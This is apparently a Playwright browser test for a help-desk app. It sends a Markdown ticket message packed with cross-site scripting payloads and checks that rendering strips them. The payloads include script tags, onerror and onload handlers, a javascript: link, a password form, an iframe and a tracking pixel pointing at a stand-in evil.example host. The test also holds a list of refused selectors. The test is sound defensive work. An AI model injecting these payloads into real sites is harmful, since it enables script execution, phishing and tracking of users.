"""Untrusted Markdown, rendered in a real browser."""

from uuid import uuid4

import pytest
from playwright.async_api import expect

from stack.demo_people import CASEY, ROBIN
from tests.browser.conftest import OpenVisitor
from tests.browser.steps import ApiLogin, new_ticket

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = """
**bold** and [a link](https://example.org)

<script>window.ran = 1</script>
<img src=x onerror="window.ran = 2">
[press me](javascript:window.ran=3)
<a href="https://example.org" onclick="window.ran = 4">or me</a>
<form action="https://evil.example"><input name="password"></form>
<p style="position:fixed;inset:0" class="danger" id="root">over everything</p>
<iframe src="https://evil.example"></iframe><svg onload="window.ran = 5"></svg>
![a picture that tells who reads this](https://evil.example/pixel.png)
"""


REFUSED = "script, img, form, input, iframe, svg, [style], [class], [id], [onclick], a[href^='javascript']"


async def test_a_message_cannot_run_scripts_load_resources_or_cover_the_page(
    open_visitor: OpenVisitor, api: ApiLogin
) -> None:
    ticket = await new_ticket(api, f"Markdown {uuid4().hex[:8]}")
    customer = await api(CASEY.email, CASEY.password)
    await customer.send("POST", f"/tickets/{ticket['id']}/messages", json={"body": HOSTILE}, key=ticket["id"])
    robin = await open_visitor()
    asked: list[str] = []
    robin.page.on("request", lambda request: asked.append(request.url))
    await robin.log_in(ROBIN, path=f"/desk/{ticket['id']}")
    message = robin.page.get_by_role("article").last
    await expect(message.get_by_role("strong")).to_have_text("bold")
    await message.get_by_text("press me").click()
    await message.get_by_text("over everything").click()

    assert await robin.page.evaluate("window.ran") is None
    assert [url for url in asked if "evil" in url] == []
    found = await message.locator("p").last.evaluate(
        "(it, what) => it.parentElement.querySelectorAll(what).length", REFUSED
    )
    assert found == 0
    link = message.get_by_role("link", name="a link")
    assert await link.get_attribute("target") == "_blank"
    assert "noopener" in (await link.get_attribute("rel") or "")
